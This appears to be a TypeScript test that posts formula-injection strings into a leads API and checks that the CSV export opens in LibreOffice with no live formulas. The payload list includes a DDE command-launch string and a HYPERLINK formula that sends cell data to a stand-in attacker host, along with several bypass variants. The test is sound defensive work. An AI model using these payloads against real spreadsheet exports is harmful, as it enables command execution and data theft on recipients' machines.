import t from 'tap'
import type { Test } from 'tap'

import { openInOffice, withOffice } from '../../../support/office.ts'
import type { OfficeSheet } from '../../../support/office.ts'
import { startProgram } from '../../../support/program.ts'

/**
 * All usual separators at once, UTF-8, numbers and dates recognised, and formulas carried out: the
 * most that whoever opens a file can ask for.
 */
const EVERYTHING = '44/59/9,34,76,1,,0,false,true,false,false,false,-1,true'
const AS_IT_IS = '44,34,76,1,,0,false,true'

/** What people have sent as their names and messages. */
const HOSTILE = [
  '=1+1',
  "+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '-2+3',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  '＝1+1',
  '"=1+1"',
  'first line\n=second line',
  'Zażółć gęślą jaźń',
  'a "quoted" name; with, all',
  '2026-11-21',
  '-5'
]

void t.test('an export opens in LibreOffice, and no cell is a formula', withOffice, async (t) => {
  const { baseUrl, credentials } = await startProgram(t)
  const headers = { authorization: `Bearer ${credentials.apiKey}` }
  for (const [index, text] of HOSTILE.entries()) {
    const answer = await fetch(`${baseUrl}/v1/leads`, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify({
        source: 'trade-fair',
        contact: { lastName: text, email: `p${index}@example.pl`, phone: `60123450${index % 10}` },
        message: text,
        vehicles: [{ interest: 'buy', condition: 'used', year: 2022, make: text }]
      })
    })
    t.equal(answer.status, 201)
  }
  const read = async (query: string) => {
    const answer = await fetch(`${baseUrl}/v1/exports/leads?source=trade-fair${query}`, { headers })
    return Buffer.from(await answer.arrayBuffer())
  }
  const plain = await read('')
  checkSheet(t, await openInOffice(t.testdir(), plain, AS_IT_IS))
  checkSheet(t, await openInOffice(t.testdir(), plain, EVERYTHING))
  // Without a window it takes texts for its system's encoding; what is a formula is the same.
  t.equal((await openInOffice(t.testdir(), await read('&bom=true'), null)).formulas, 0)
  const semicolons = await read('&separator=semicolon&bom=true')
  checkSheet(t, await openInOffice(t.testdir(), semicolons, EVERYTHING))

  const unguarded = await openInOffice(t.testdir(), 'a,b\r\n=1+1,"x"\r\n', EVERYTHING)
  t.equal(unguarded.formulas, 1, 'it would carry formulas out')
})

const oneLine = (text: string) => text.replace(/\s+/g, ' ')

/** The texts as they are stored: names are one line, and a make has no marks around it. A message stays as it was written. */
const STORED = {
  'contact.lastName': oneLine,
  message: (text: string) => text,
  'vehicle.make': (text: string) => oneLine(text).replace(/^[-"]|(?<==1\+1)"$/g, '')
}

function checkSheet(t: Test, { cells, formulas }: OfficeSheet): void {
  const [head = [], ...rows] = cells
  const names = head.map(({ text }) => text)
  const column = (name: string) => rows.map((row) => row[names.indexOf(name)] ?? null)
  t.equal(formulas, 0)
  t.equal(rows.length, HOSTILE.length)
  for (const name of ['contact.lastName', 'message', 'vehicle.make'] as const) {
    const texts = column(name).map((cell) => cell?.text.replace(/^'/, ''))
    t.strictSame(texts, HOSTILE.map(STORED[name]), name)
  }
  t.strictSame(
    column('contact.phone').map((cell) => cell?.text),
    HOSTILE.map((_, index) => `'+4860123450${index % 10}`),
    'phones keep their plus'
  )
  t.strictSame(
    column('vehicle.year').map((cell) => cell?.type),
    HOSTILE.map(() => 'float')
  )
}
